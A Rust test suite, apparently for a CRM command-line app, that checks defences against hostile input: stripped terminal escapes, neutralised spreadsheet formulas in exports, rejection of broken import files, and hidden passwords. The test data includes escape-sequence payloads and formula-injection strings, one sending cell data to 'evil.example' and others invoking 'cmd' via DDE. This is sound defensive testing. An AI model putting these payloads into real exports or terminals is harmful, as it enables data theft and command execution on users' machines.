//! Hostile input: control characters and escape sequences, formulas, huge texts and trees, broken
//! files, broken settings and secrets. Typed or imported text reaches neither the terminal nor a
//! spreadsheet as anything but text; a bad file is refused whole, naming its line and what is
//! wrong; and a password never shows in a message.

use std::path::{Path, PathBuf};

use chrono::{NaiveDateTime, TimeDelta};
use diesel::prelude::*;

use peygir::db::Db;
use peygir::db::ids::{CaseId, ContactId};
use peygir::db::schema::{
    cases as cases_table, complaints as complaints_table, contacts as contacts_table,
};
use peygir::exchange::{self, ExportOptions, Format};
use peygir::store::cases::{CaseFields, ClosingInfo};
use peygir::store::categories::{self, NewCategory};
use peygir::store::complaints::{self, ComplaintFields};
use peygir::store::contacts::{self, ContactFields, ContactFilter};
use peygir::store::followups::{self, FollowUpInput, NextAction, Subject};
use peygir::store::lookups::{self, List};
use peygir::store::sla::Severity;
use peygir::store::users::{self, Resolved};
use peygir::store::{Actor, Role, bulk, planned};
use peygir::tui::keymap::{Keymap, Resolved as Key};

use crate::support::binary::{self, Run};
use crate::support::{Backend, admin};

/// Everything a terminal would act on rather than show: a screen clear, an OSC 52 clipboard
/// write ended by BEL, C1 controls (NEL, CSI), a right-to-left override and NUL, around text
/// that must survive.
const HOSTILE: &str =
    "Ali\u{1b}[2J\u{1b}]52;c;ZXZpbA==\u{7} Re\u{85}za\u{9b}31m\u{202e}ei\u{0}\u{1b}P";

/// [`HOSTILE`] without NUL, which PostgreSQL's text refuses at any door: what a row written past
/// the store (another program, an old version) may hold.
const HOSTILE_RAW: &str =
    "Ali\u{1b}[2J\u{1b}]52;c;ZXZpbA==\u{7} Re\u{85}za\u{9b}31m\u{202e}ei\u{1b}P";

/// Whether `text` holds a control character other than a line break or a tab (which longer
/// texts keep).
fn has_controls(text: &str) -> bool {
    text.chars()
        .any(|c| c.is_control() && c != '\n' && c != '\t')
}

/// What a terminal acts on: ESC, BEL, NUL and the C1 controls (U+0080 to U+009F).
fn has_escapes(text: &str) -> bool {
    text.chars().any(|c| c.is_control() && c != '\n')
}

fn now() -> NaiveDateTime {
    chrono::Utc::now().naive_utc()
}

/// The default lists and statuses, and the store's first user, an admin.
fn ready(db: &mut Db) -> Actor {
    peygir::store::ensure_defaults(db).expect("the defaults");
    admin(db)
}

/// A complaint of `contact` whose title and requested remedy are the hostile text.
fn hostile_complaint(
    db: &mut Db,
    admin: &Actor,
    contact: ContactId,
    description: String,
) -> complaints::Complaint {
    complaints::create(
        db,
        admin,
        ComplaintFields {
            title: HOSTILE.into(),
            description,
            contact_id: contact,
            case_id: None,
            category_id: None,
            channel_id: None,
            severity: Severity::Low,
            expert_id: admin.id,
            received_at: None,
            remedy_requested: Some(HOSTILE.into()),
        },
    )
    .expect("a complaint")
}

/// A call logged on `case` saying `said`, planning a next action that says `next` when given.
fn log_call(
    db: &mut Db,
    admin: &Actor,
    case: CaseId,
    said: &str,
    next: Option<&str>,
) -> followups::Recorded {
    let (call, action) = (
        first_of(db, List::FollowupKind),
        first_of(db, List::ActionKind),
    );
    followups::record(
        db,
        admin,
        FollowUpInput {
            subject: Subject::Case(case),
            subject_version: None,
            kind_id: call,
            happened_at: now(),
            expert_id: admin.id,
            minutes: 5,
            description: said.into(),
            status_after_id: None,
            closing: ClosingInfo::default(),
            next: next.map(|next| NextAction {
                kind_id: action,
                description: next.into(),
                assignee_id: admin.id,
                due_at: now() + TimeDelta::days(2),
                estimated_minutes: 10,
            }),
            completes: None,
        },
    )
    .expect("a follow-up")
}

fn first_of(db: &mut Db, list: List) -> peygir::db::ids::LookupId {
    lookups::ids(db, list).expect("a list")[0]
}

fn person(first: &str, last: &str) -> ContactFields {
    ContactFields {
        kind: "person".into(),
        first_name: Some(first.into()),
        last_name: Some(last.into()),
        ..ContactFields::default()
    }
}

store_tests! {
    /// Control characters and escape sequences typed into every kind of text field are taken
    /// out when the store saves it: what is read back holds none, and the visible text is kept.
    fn escape_sequences_typed_into_any_text_field_are_not_stored(db, backend) {
        let admin = ready(db);
        let contact = contacts::create(
            db,
            &admin,
            ContactFields {
                address: Some(format!("{HOSTILE}\nTehran")),
                notes: Some(format!("{HOSTILE}\n\tsecond line")),
                ..person(HOSTILE, HOSTILE)
            },
        )
        .expect("a person");
        let company = contacts::create(
            db,
            &admin,
            ContactFields {
                kind: "company".into(),
                company_name: Some(HOSTILE.into()),
                ..ContactFields::default()
            },
        )
        .expect("a company");
        let case = peygir::store::cases::create(
            db,
            &admin,
            CaseFields {
                title: HOSTILE.into(),
                need: Some(HOSTILE.into()),
                company_id: Some(company.id),
                contact_id: Some(contact.id),
                expert_id: admin.id,
                ..CaseFields::default()
            },
        )
        .expect("a case");
        let recorded = log_call(db, &admin, case.id, HOSTILE, Some(HOSTILE));
        let complaint = hostile_complaint(db, &admin, contact.id, HOSTILE.into());
        categories::add(db, &admin, None, &HOSTILE.replace(';', ":"))
            .expect("a category");
        let region = lookups::add(db, &admin, List::Region, None, HOSTILE, None).expect("an entry");
        let user = users::add(db, &admin, "mina", HOSTILE, Role::Agent, None).expect("a user");

        let contact = contacts::get(db, contact.id).expect("the person");
        let followup = followups::get(db, recorded.followup.id).expect("the follow-up");
        let next = planned::get(db, recorded.next_action.expect("a next action").id)
            .expect("the planned action");
        let case = peygir::store::cases::get(db, case.id).expect("the case");
        let complaint = complaints::get(db, complaint.id).expect("the complaint");
        let category = categories::tree(db).expect("the tree").remove(0).name;
        let stored: Vec<(&str, String)> = vec![
            ("first name", contact.fields.first_name.clone().unwrap_or_default()),
            ("last name", contact.fields.last_name.clone().unwrap_or_default()),
            ("display name", contact.fields.display_name.clone()),
            ("address", contact.fields.address.clone().unwrap_or_default()),
            ("notes", contact.fields.notes.clone().unwrap_or_default()),
            ("company name", contacts::get(db, company.id).expect("the company").fields.display_name),
            ("case title", case.title.clone()),
            ("case need", case.need.clone().unwrap_or_default()),
            ("follow-up", followup.description.clone()),
            ("planned action", next.description.clone()),
            ("complaint title", complaint.title.clone()),
            ("complaint description", complaint.description.clone()),
            ("remedy requested", complaint.remedy_requested.clone().unwrap_or_default()),
            ("category", category),
            ("lookup", lookups::get(db, region.id).expect("the entry").name),
            ("user", user.display_name.clone()),
        ];
        for (field, value) in stored {
            assert!(!has_controls(&value), "{field} on {backend} holds a control: {value:?}");
            assert!(value.contains("Ali") && value.contains("ei"), "{field} lost its text: {value:?}");
        }
        assert!(contact.fields.notes.unwrap_or_default().contains("\n\tsecond line"), "line breaks and tabs stay in notes");
    }

    /// A 1 MB follow-up text, contact note and case title are stored whole and read back whole:
    /// the store sets no limit of its own on a text's length.
    fn a_megabyte_of_text_is_stored_and_read_back_whole(db, backend) {
        let admin = ready(db);
        let megabyte = "پیگیری تماس ".repeat(1 << 20).chars().take(1 << 20).collect::<String>();
        let megabyte = megabyte.trim().to_string();
        let contact = contacts::create(
            db,
            &admin,
            ContactFields { notes: Some(megabyte.clone()), ..person("Ali", "Rezaei") },
        )
        .expect("a person with a long note");
        let case = peygir::store::cases::create(
            db,
            &admin,
            CaseFields {
                title: megabyte.clone(),
                contact_id: Some(contact.id),
                expert_id: admin.id,
                ..CaseFields::default()
            },
        )
        .expect("a case with a long title");
        let recorded = log_call(db, &admin, case.id, &megabyte, None);
        assert_eq!(contacts::get(db, contact.id).expect("read").fields.notes.as_deref(), Some(megabyte.as_str()));
        assert_eq!(peygir::store::cases::get(db, case.id).expect("read").title, megabyte);
        assert_eq!(followups::get(db, recorded.followup.id).expect("read").description, megabyte);
    }

    /// A category path 100 levels deep and a node with 10,000 children are stored, counted by
    /// `categories::tree` (in depth-first order, with the depth of each node), and exported in
    /// the contacts' category column, whole; nothing overflows the stack.
    fn a_deep_and_a_wide_category_tree_are_stored_counted_and_exported(db, backend) {
        let admin = ready(db);
        let path: Vec<String> = (0..100).map(|i| format!("level {i:03}")).collect();
        let path = path.join("/");
        let deepest = categories::ensure_path(db, &admin, &path).expect("a 100-level path");
        let wide = categories::add(db, &admin, None, "wide").expect("a node");
        let at = now();
        let children: Vec<NewCategory> = (0..10_000)
            .map(|i| NewCategory {
                parent_id: Some(wide),
                name: format!("child {i:05}"),
                position: i,
                created_at: at,
                updated_at: at,
            })
            .collect();
        let ids = bulk::categories(db, &children).expect("10,000 children");
        let ali = contacts::create(db, &admin, person("Ali", "Rezaei")).expect("a person");
        categories::set_for_contact(db, &admin, ali.id, &[deepest, ids[9_999]]).expect("filed");

        let tree = categories::tree(db).expect("the tree");
        assert_eq!(tree.len(), 100 + 1 + 10_000);
        assert_eq!(tree.iter().map(|n| n.depth).max(), Some(99));
        let root = tree.iter().find(|n| n.name == "level 000").expect("the top of the path");
        assert_eq!(root.total, 1);
        let wide_node = tree.iter().find(|n| n.id == wide).expect("the wide node");
        assert_eq!((wide_node.total, wide_node.own), (1, 0));
        assert_eq!(categories::path_of(db, deepest).expect("its path"), path);

        let folder = tempfile::tempdir().expect("a folder");
        let file = folder.path().join("contacts.csv");
        exchange::export_contacts(db, &ContactFilter::default(), Format::Csv, &file, &ExportOptions::default(), &mut |_, _| {})
            .expect("exported");
        let rows = read_csv(&file);
        let column = rows[0].iter().position(|h| h == "categories").expect("a categories column");
        assert!(rows[1][column].contains(&path), "the whole path is exported: {:?}", rows[1][column]);
        assert!(rows[1][column].contains("wide/child 09999"), "{:?}", rows[1][column]);
    }
}

/// The CSV file at `path`, every record (the header first) as its cells.
fn read_csv(path: &Path) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_path(path)
        .unwrap_or_else(|e| panic!("read {}: {e}", path.display()));
    reader
        .records()
        .map(|r| r.expect("a record").iter().map(str::to_string).collect())
        .collect()
}

/// Every part of the xlsx file at `path` (its sheets, its shared strings), unpacked and joined.
fn xlsx_xml(path: &Path) -> String {
    use std::io::Read;
    let file = std::fs::File::open(path).expect("the xlsx file");
    let mut archive = zip::ZipArchive::new(file).expect("an xlsx is a zip archive");
    let mut xml = String::new();
    for i in 0..archive.len() {
        archive
            .by_index(i)
            .expect("a part")
            .read_to_string(&mut xml)
            .expect("UTF-8 XML");
    }
    xml
}

/// A store for the binary: its first user (the login running the tests) is an admin, and the
/// default lists are in.
struct Setup {
    store: binary::Store,
    admin: Actor,
}

impl Setup {
    fn run(&self, args: &[&str]) -> Run {
        self.store.run(args)
    }

    fn path(&self, name: &str) -> PathBuf {
        self.store.home.path().join(name)
    }
}

fn setup(backend: Backend) -> Option<Setup> {
    let mut store = binary::Store::open(backend, "hostile")?;
    let admin =
        match users::resolve_actor(&mut store.db, &users::os_login()).expect("the first admin") {
            Resolved::FirstAdmin(a) | Resolved::Existing(a) => a,
        };
    Some(Setup { store, admin })
}

/// Writes `text` over every row's `column`, past the store and its cleaning, as another program
/// or an old version might have.
macro_rules! overwrite {
    ($db:expr, $table:ident, $column:ident, $text:expr) => {
        peygir::on_backend!($db, |c| diesel::update($table::table)
            .set($table::$column.eq($text))
            .execute(c))
        .expect(concat!(
            "overwrite ",
            stringify!($table),
            ".",
            stringify!($column)
        ))
    };
}

/// The standard output and error of `run` hold no escape, BEL, NUL or C1 control.
fn no_escapes(run: &Run) {
    assert!(
        !has_escapes(&run.stdout) && !has_escapes(&run.stderr),
        "raw control characters printed:\n{:?}\n{:?}",
        run.stdout,
        run.stderr
    );
}

cli_tests! {
    // `case list`, `complaint show` and `audit` print no escape sequence to a terminal, even
    // for rows that hold them because they were written past the store; `--format json`
    // escapes them as JSON does.
    fn command_line_output_never_prints_raw_escapes(s) {
        let db = &mut s.store.db;
        let admin = s.admin.clone();
        let contact = contacts::create(db, &admin, person("Ali", "Rezaei")).expect("a person");
        peygir::store::cases::create(
            db,
            &admin,
            CaseFields { title: "Boilers".into(), contact_id: Some(contact.id), expert_id: admin.id, ..CaseFields::default() },
        )
        .expect("a case");
        let complaint = hostile_complaint(db, &admin, contact.id, format!("{HOSTILE}\nsecond line"));
        overwrite!(db, cases_table, title, HOSTILE_RAW);
        overwrite!(db, complaints_table, title, HOSTILE_RAW);
        overwrite!(db, complaints_table, description, HOSTILE_RAW);
        overwrite!(db, contacts_table, display_name, HOSTILE_RAW);

        for args in [
            vec!["case", "list"],
            vec!["complaint", "list"],
            vec!["complaint", "show", complaint.number.as_str()],
            vec!["audit"],
        ] {
            let run = s.run(&args).ok();
            no_escapes(&run);
        }
        let json = s.run(&["case", "list", "--format", "json"]).ok();
        // JSON escapes C0 controls (ESC, BEL) as `\u001b`; C1 controls and bidi marks are
        // plain characters to it, and a JSON reader gets them back as they are stored.
        assert!(!json.stdout.chars().any(|c| c < ' ' && c != '\n'), "{json}");
        let rows: serde_json::Value = serde_json::from_str(&json.stdout).expect("JSON");
        assert!(rows.to_string().contains("Ali"), "{json}");
    }

    // An error that quotes what was typed prints no escape sequence either.
    fn an_error_quoting_typed_text_prints_no_escape(s) {
        let run = s.run(&["complaint", "show", "\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J"]).expect_code(1);
        no_escapes(&run);
    }

    // Contact names, notes, case titles and user names that start with `=`, `+`, `-` or `@`
    // are exported to CSV with the text mark in front (a spreadsheet shows them as text, and
    // the import takes the mark off again), and to xlsx as text cells, never as formulas; the
    // same holds for a report's CSV and xlsx.
    fn formulas_in_exports_are_neutralised(s) {
        let db = &mut s.store.db;
        let admin = s.admin.clone();
        let formulas = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
        ];
        for (i, formula) in formulas.iter().enumerate() {
            let contact = contacts::create(
                db,
                &admin,
                ContactFields {
                    notes: Some(formula.to_string()),
                    address: Some(format!("\t{formula}")),
                    ..person(formula, &format!("{formula}{i}"))
                },
            )
            .expect("a person");
            peygir::store::cases::create(
                db,
                &admin,
                CaseFields {
                    title: formula.to_string(),
                    contact_id: Some(contact.id),
                    referrer_id: Some(contact.id),
                    expert_id: admin.id,
                    ..CaseFields::default()
                },
            )
            .expect("a case");
        }
        users::add(db, &admin, "eve", "=1+1", Role::Agent, None).expect("a user");

        let csv = s.path("contacts.csv");
        s.run(&["export", "contacts", "--output", csv.to_str().expect("UTF-8")]).ok();
        let report = s.path("referrers.csv");
        s.run(&["report", "referrers", "--output", report.to_str().expect("UTF-8")]).ok();
        let workload = s.path("workload.csv");
        s.run(&["report", "workload", "--output", workload.to_str().expect("UTF-8")]).ok();
        let mut marked = 0;
        for file in [&csv, &report, &workload] {
            for row in read_csv(file).iter().skip(1) {
                for cell in row {
                    assert!(!exchange::is_formula(cell), "{} holds a live formula: {cell:?}", file.display());
                    if let Some(value) = cell.strip_prefix('\'') {
                        marked += 1;
                        assert!(exchange::is_formula(value), "only a formula is marked: {cell:?}");
                    }
                }
            }
        }
        assert!(marked >= formulas.len() * 5, "the formulas were exported, each marked ({marked})");
        // The import takes the mark off again: the values round-trip exactly.
        for formula in formulas {
            assert_eq!(exchange::from_csv_cell(&exchange::csv_cell(formula)), Ok(formula));
        }
        // A formula behind a tab or a carriage return is marked too.
        for hidden in ["\t=1+2", "\r=1+2", " @x", "\t+A1"] {
            assert!(exchange::csv_cell(hidden).starts_with('\''), "{hidden:?}");
        }

        let xlsx = s.path("contacts.xlsx");
        s.run(&["export", "contacts", "--output", xlsx.to_str().expect("UTF-8")]).ok();
        let report_xlsx = s.path("referrers.xlsx");
        s.run(&["report", "referrers", "--output", report_xlsx.to_str().expect("UTF-8")]).ok();
        for file in [&xlsx, &report_xlsx] {
            let sheet = xlsx_xml(file);
            assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{} holds a formula cell", file.display());
            assert!(sheet.contains("HYPERLINK") && sheet.contains("cmd|"), "the texts are in {}", file.display());
        }
    }

    // Malformed contact files are refused whole, each naming the row (and the column, where
    // there is one) and what is wrong, and nothing is imported; a NUL byte in a cell is taken
    // out like any control character.
    fn broken_contact_files_are_refused_whole_naming_the_line(s) {
        let header = "kind,first_name,last_name,notes\n";
        let long_row = format!("person,Ali,Rezaei,x{}\n", ",x".repeat(9_999));
        let mut latin1 = header.as_bytes().to_vec();
        latin1.extend_from_slice(b"person,Ali,Ren\xe9e,\n");
        let mut cp1256 = header.as_bytes().to_vec();
        cp1256.extend_from_slice(b"person,\xe3\xcd\xe3\xcf,\xc7\xcd\xe3\xcf\xc7,\n");
        let mut utf16 = vec![0xff, 0xfe];
        for unit in format!("{header}person,Ali,Rezaei,\n").encode_utf16() {
            utf16.extend_from_slice(&unit.to_le_bytes());
        }
        let cases: Vec<(&str, Vec<u8>, &str)> = vec![
            ("unclosed quote", format!("{header}person,\"Ali,Rezaei,\nperson,Sara,Rahimi,\n").into_bytes(), "row 2"),
            ("stray quote", format!("{header}person,Al\"i,Rezaei,\n").into_bytes(), "row 2"),
            ("text after a quote", format!("{header}person,\"Ali\"x,Rezaei,\n").into_bytes(), "row 2"),
            ("Latin-1", latin1, "row 2"),
            ("Windows-1256", cp1256, "row 2"),
            ("UTF-16 with a byte order mark", utf16, "row 1"),
            ("no header", b"person,Ali,Rezaei,\n".to_vec(), "row 1"),
            ("a doubled column", b"kind,last_name,last_name\nperson,Ali,Rezaei\n".to_vec(), "row 1"),
            ("a doubled header row", format!("{header}{header}person,Ali,Rezaei,\n").into_bytes(), "row 2"),
            ("10,000 columns", format!("{header}{long_row}").into_bytes(), "row 2"),
            ("an escape sequence in a bad cell", format!("{header}per\u{1b}[2Json,Ali,Rezaei,\n").into_bytes(), "row 2"),
        ];
        for (what, bytes, place) in cases {
            let file = s.path("in.csv");
            std::fs::write(&file, &bytes).expect("write the file");
            let run = s.run(&["import", "contacts", file.to_str().expect("UTF-8")]).expect_code(1);
            no_escapes(&run);
            assert!(run.stderr.contains(place), "{what}: the message names {place}:\n{run}");
            let count: i64 = peygir::on_backend!(&mut s.store.db, |c| contacts_table::table.count().get_result(c)).expect("count");
            assert_eq!(count, 0, "{what}: nothing is imported:\n{run}");
        }

        // NUL bytes and escapes in good cells are taken out; the row is imported.
        let file = s.path("nul.csv");
        std::fs::write(&file, format!("{header}person,A\u{0}li,Re\u{1b}[31mzaei,n\u{0}o\u{85}te\n")).expect("write");
        s.run(&["import", "contacts", file.to_str().expect("UTF-8")]).ok();
        let names: Vec<String> = peygir::on_backend!(&mut s.store.db, |c| contacts_table::table.select(contacts_table::display_name).load(c)).expect("names");
        assert_eq!(names, vec!["Ali Re[31mzaei".to_string()]);
    }

    // Sales and plan files that are not UTF-8 or have broken quoting are refused whole,
    // naming the row.
    fn broken_sales_and_plan_files_are_refused_naming_the_line(s) {
        let file = s.path("in.csv");
        for (args, bytes) in [
            (vec!["import", "sales"], b"contact,amount\n\"Ali,5\n".to_vec()),
            (vec!["import", "sales"], b"contact,amount\nRen\xe9e,5\n".to_vec()),
            (vec!["plan", "import"], b"name,market\n\"x,b2b\n".to_vec()),
            (vec!["plan", "import"], b"name,market\n\xe3\xcd,b2b\n".to_vec()),
        ] {
            std::fs::write(&file, &bytes).expect("write");
            let mut all = args.clone();
            all.push(file.to_str().expect("UTF-8"));
            let run = s.run(&all).expect_code(1);
            no_escapes(&run);
            assert!(run.stderr.contains("row 2"), "{run}");
        }
    }

    // Gender and marital status in an import are checked by the store: a wrong value is a
    // problem of its row and column, not a store failure.
    fn a_wrong_gender_is_a_problem_of_its_row(s) {
        let file = s.path("in.csv");
        std::fs::write(&file, "kind,last_name,gender,marital_status\nperson,Rezaei,\u{1b}[31mmale,widowed\n").expect("write");
        let run = s.run(&["import", "contacts", file.to_str().expect("UTF-8")]).expect_code(1);
        no_escapes(&run);
        assert!(run.stderr.contains("row 2") && run.stderr.contains("gender") && run.stderr.contains("female, male"), "{run}");
        assert!(run.stderr.contains("single, married"), "{run}");
    }
}

/// A contacts file of a million rows (34 MB) is imported by the binary, in one
/// transaction. Slow in a debug build: run it by hand with `--ignored`.
#[test]
#[ignore]
fn a_million_row_contacts_file_is_imported() {
    let Some(s) = setup(Backend::Sqlite) else {
        return;
    };
    let file = s.path("million.csv");
    let mut text = String::from("kind,first_name,last_name,notes\n");
    for i in 0..1_000_000 {
        text.push_str(&format!("person,Person,{i:07},note {i}\n"));
    }
    std::fs::write(&file, text).expect("write");
    let run = s.run(&["import", "contacts", file.to_str().expect("UTF-8")]);
    assert!(run.code == Some(0) || run.stderr.contains("row"), "{run}");
}

/// A keymap file's mistakes the unit tests of `keymap` leave out: bytes that are not UTF-8 (the
/// line named), an escape sequence in a key name (not printed raw), a huge file; each is
/// reported, and the app starts with the defaults for what is wrong.
#[test]
fn broken_keymap_files_are_reported_with_their_line() {
    let folder = tempfile::tempdir().expect("a folder");
    let home = folder.path();
    let file = home.join("keymap.toml");
    let check = |text: &[u8]| -> Run {
        std::fs::write(&file, text).expect("write");
        let args = ["keymap", "check", file.to_str().expect("UTF-8")];
        Run::of(binary::command(home, &args), &args)
    };
    let run = check(b"[global]\nquit = { keys = [\"q\"] }\nhelp = { keys = [\"\xff\"] }\n")
        .expect_code(1);
    assert!(
        run.stderr.contains("keymap.toml:3") && run.stderr.contains("UTF-8"),
        "{run}"
    );

    let run = check(b"[global]\nquit = { keys = [\"\\u001b[2J\", \"\\u009b\"] }\n\"\\u001b]52;c;eA==\\u0007\" = { keys = [\"x\"] }\n").expect_code(1);
    no_escapes(&run);
    assert!(
        run.stderr.contains("keymap.toml:2") && run.stderr.contains("keymap.toml:3"),
        "{run}"
    );

    let mut huge = String::from("[global]\n");
    for i in 0..100_000 {
        huge.push_str(&format!("# {i} {}\n", "x".repeat(100)));
    }
    huge.push_str("quit = { keys = [\"Q\"] }\nfly = { keys = [\"f\"] }\n");
    let run = check(huge.as_bytes()).expect_code(1);
    assert!(
        run.stderr.contains("keymap.toml:100003") && run.stderr.contains("fly"),
        "{run}"
    );

    // `keymap print` with the broken file still prints the bindings in force.
    std::fs::write(&file, b"\xff\xfe[").expect("write");
    let args = ["--keymap", file.to_str().expect("UTF-8"), "keymap", "print"];
    let run = Run::of(binary::command(home, &args), &args).ok();
    assert!(
        run.stdout.contains("quit") && run.stderr.contains("line 1"),
        "{run}"
    );
}

/// A key bound by the user that is the first key of a default sequence takes the sequence's
/// place: `g` for `list-down` leaves `list-top` its other key, and the `g g` sequence is gone,
/// rather than making `g` wait for a second key.
#[test]
fn a_user_key_that_shadows_a_default_sequence_replaces_it() {
    let (user, problems) =
        peygir::tui::keymap::parse("[list]\nlist-down = { keys = [\"g\"] }\n", "user.toml");
    assert!(problems.is_empty(), "{problems:?}");
    let mut keymap = Keymap::defaults();
    keymap.merge(user);
    assert_eq!(keymap.hint("list-down"), "g");
    assert_eq!(keymap.hint("list-top"), "home");
    let g = crossterm::event::KeyEvent::new(
        crossterm::event::KeyCode::Char('g'),
        crossterm::event::KeyModifiers::NONE,
    );
    let contexts = [peygir::tui::action::Context::parse("list").expect("the list context")];
    let mut pending = Vec::new();
    let g = peygir::tui::keymap::Key::from_event(&g);
    assert_eq!(
        keymap.resolve(&contexts, &mut pending, g),
        Key::Action("list-down")
    );
}

/// A config file that is not UTF-8, names an unknown calendar or language, or is huge, is
/// reported with the file (and the line, where it has one), and the command still runs with
/// the defaults.
#[test]
fn broken_config_files_only_warn() {
    let folder = tempfile::tempdir().expect("a folder");
    let home = folder.path();
    let config = home.join("config").join("peygir");
    std::fs::create_dir_all(&config).expect("the config folder");
    let file = config.join("config.toml");
    let status = |text: &[u8]| -> Run {
        std::fs::write(&file, text).expect("write");
        let args = ["db", "status"];
        Run::of(binary::command(home, &args), &args).ok()
    };
    let run = status(b"lang = \"en\"\ncalendar = \"\xff\"\n");
    assert!(
        run.stderr.contains("config.toml") && run.stderr.contains("line 2"),
        "{run}"
    );
    let run = status(b"lang = \"klingon\"\ncalendar = \"mayan\"\n");
    assert!(
        run.stderr.contains("klingon") && run.stderr.contains("mayan"),
        "{run}"
    );
    let run = status(b"lang = \"\\u001b[2J\"\n");
    no_escapes(&run);
    // Raw escapes are not TOML; the parser's message quotes the line, escapes left out.
    let run = status(b"lang = \"\x1b]52;c;eA==\x07\x1b[2J\"\n");
    no_escapes(&run);
    assert!(
        run.stderr.contains("config.toml") && run.stderr.contains("line 1"),
        "{run}"
    );
    let mut huge = String::new();
    for i in 0..100_000 {
        huge.push_str(&format!("# {i} {}\n", "x".repeat(100)));
    }
    huge.push_str("lang = 5\n");
    let run = status(huge.as_bytes());
    assert!(run.stderr.contains("config.toml"), "{run}");
}

/// Inserts `:SECRET` as the password of `url`.
fn with_password(url: &str, secret: &str) -> String {
    let (scheme, rest) = url.split_once("://").expect("a URL");
    let (user, host) = rest.split_once('@').expect("a user in the URL");
    let user = user.split(':').next().unwrap_or(user);
    format!("{scheme}://{user}:{secret}@{host}")
}

/// A PostgreSQL URL's password shows in no message: not when the host cannot be reached, not
/// when the database does not exist, and not in `db status`.
#[test]
fn a_password_in_the_store_url_never_shows() {
    let Some(server) = crate::support::pg::server() else {
        return;
    };
    let database = server.migrated_database();
    let secret = "Hunter2-s3cret";
    let folder = tempfile::tempdir().expect("a folder");
    let home = folder.path();
    let good = with_password(&database.url, secret);
    let (base, _) = good.rsplit_once('/').expect("a database name");
    let missing = format!("{base}/peygir_no_such_database");
    let unreachable = format!("postgres://peygir:{secret}@127.0.0.1:1/peygir");
    for (url, args) in [
        (&unreachable, vec!["db", "status"]),
        (&unreachable, vec!["case", "list"]),
        (&missing, vec!["db", "status"]),
        (&missing, vec!["db", "migrate"]),
        (&good, vec!["db", "status"]),
        (&good, vec!["db", "backup", "/nonexistent/folder/x.dump"]),
    ] {
        let mut all = vec!["--db", url.as_str()];
        all.extend(args);
        let run = Run::of(binary::command(home, &all), &all);
        assert!(
            !run.stdout.contains(secret) && !run.stderr.contains(secret),
            "the password shows:\n{run}"
        );
    }
}

/// Every file in `root`, recursively.
fn files_under(root: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut todo = vec![root.to_path_buf()];
    while let Some(folder) = todo.pop() {
        for entry in std::fs::read_dir(&folder).into_iter().flatten().flatten() {
            let path = entry.path();
            if path.is_dir() {
                todo.push(path);
            } else {
                out.push(path);
            }
        }
    }
    out.sort();
    out
}

/// With `HOME`, the data, config and temporary folders pointed into one folder, the binary
/// writes its store into the data folder, an export where it was asked to (readable by its
/// owner only), and nothing anywhere else.
#[test]
fn nothing_is_written_outside_the_data_and_config_folders() {
    use std::os::unix::fs::PermissionsExt;
    let folder = tempfile::tempdir().expect("a folder");
    let root = folder.path();
    let home = root.join("home");
    let work = root.join("work");
    let tmp = root.join("tmp");
    for dir in [&home, &work, &tmp] {
        std::fs::create_dir_all(dir).expect("a folder");
    }
    let run = |args: &[&str]| -> Run {
        let mut command = binary::command(&home, args);
        command.env("TMPDIR", &tmp).current_dir(&work);
        Run::of(command, args)
    };
    run(&["db", "migrate"]).ok();
    run(&["case", "list"]).ok();
    run(&["audit"]).ok();
    run(&["report", "workload"]).ok();
    run(&["export", "contacts", "--output", "out.xlsx"]).ok();
    run(&["export", "contacts", "--output", "out.csv"]).ok();
    run(&["keymap", "print"]).ok();
    let data = home.join("data").join("peygir");
    let written = files_under(root);
    let unexpected: Vec<&PathBuf> = written
        .iter()
        .filter(|p| {
            !p.starts_with(&data) && **p != work.join("out.xlsx") && **p != work.join("out.csv")
        })
        .collect();
    assert!(
        unexpected.is_empty(),
        "written outside the data folder: {unexpected:?}"
    );
    assert!(data.join("peygir.db").is_file(), "{written:?}");
    for export in ["out.xlsx", "out.csv"] {
        let mode = std::fs::metadata(work.join(export))
            .expect("the export")
            .permissions()
            .mode();
        assert_eq!(
            mode & 0o077,
            0,
            "{export} is readable by its owner only: {mode:o}"
        );
    }
}
